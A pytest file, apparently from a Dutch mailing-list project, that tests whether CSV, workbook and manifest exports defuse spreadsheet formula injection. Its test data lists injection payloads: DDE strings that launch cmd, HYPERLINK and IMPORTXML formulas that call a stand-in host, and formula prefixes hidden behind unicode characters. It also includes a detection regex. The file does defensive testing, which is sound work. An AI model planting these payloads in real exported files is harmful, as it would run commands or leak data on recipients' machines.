"""No cell of a file that we write is a formula, however it is hidden."""

import csv
import io
import re
import zipfile
from xml.etree import ElementTree as ET

import pytest

from letters.adapters.package_files import manifest_file
from letters.rules.packages import ManifestRow
from outreach.adapters.spreadsheets import (
    Sheet,
    safe_cell,
    write_rows,
    write_workbook,
)
from tests.conftest import NOW

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202f =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://x.test?"&A1;"klik")',
    '=IMPORTXML("http://x.test";"//a")',
    "naam,=1+1",
    'naam;"=1+1',
    "\x00=1+1",
    "naam\n=1+1",
    "%0A=1+1",
    "|calc",
]
"""trust.md, A2: the 24 and some more."""
RUNS = re.compile(r"^\s*[=+\-@\t\r|%\uff1d\uff0b\uff0d\uff20\u2212]")


@pytest.mark.parametrize("attack", FORMULAS)
@pytest.mark.parametrize("separator", [";", ",", "\t"])
def test_no_cell_of_a_csv_is_run(attack: str, separator: str) -> None:
    text = write_rows([attack], [[attack, "gewoon"]]).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text), delimiter=separator):
        for cell in row:
            stripped = cell.strip("\"'\u00a0\u200b\ufeff\u202f ")
            assert cell.startswith("'") or not RUNS.match(stripped), cell


@pytest.mark.parametrize("attack", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula(attack: str) -> None:
    sheet = Sheet("Lijst", attack, [attack], [[attack]])
    content = write_workbook(sheet, made_at=NOW)
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        page = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
        strings = book.read("xl/sharedStrings.xml").decode()
    kinds = [cell.get("t") for cell in page.iter() if cell.tag.endswith("}c")]
    assert kinds == ["s", "s", "s"]
    assert not [one for one in page.iter() if one.tag.endswith("}f")]
    assert not [one for one in page.iter() if "hyperlink" in one.tag.lower()]
    assert not RUNS.match(re.search(r"<t[^>]*>(.*?)</t>", strings, re.S)[1])


def test_numbers_and_plain_words_stay_as_they_are() -> None:
    assert [safe_cell(value) for value in (-3, 2.5, None, "A.M. Bakker-Jansen")] == [
        -3,
        2.5,
        "",
        "A.M. Bakker-Jansen",
    ]
    assert safe_cell("bel bij de achterdeur; niet voor 10 uur") == (
        "bel bij de achterdeur; niet voor 10 uur"
    )


def test_the_manifest_for_the_print_house_is_safe_too() -> None:
    row = ManifestRow("a.pdf", 1, 2, "1-1", "=1+1", "+12", 2, 0)
    text = manifest_file([row]).decode()
    assert text.splitlines()[1] == "a.pdf;1;2;1-1;'=1+1;'+12;2;0"


def test_the_note_stands_above_the_list() -> None:
    text = write_rows(["Naam"], [["x"]], note="Vernietig dit").decode("utf-8-sig")
    assert text.splitlines() == ["Vernietig dit", "Naam", "x"]
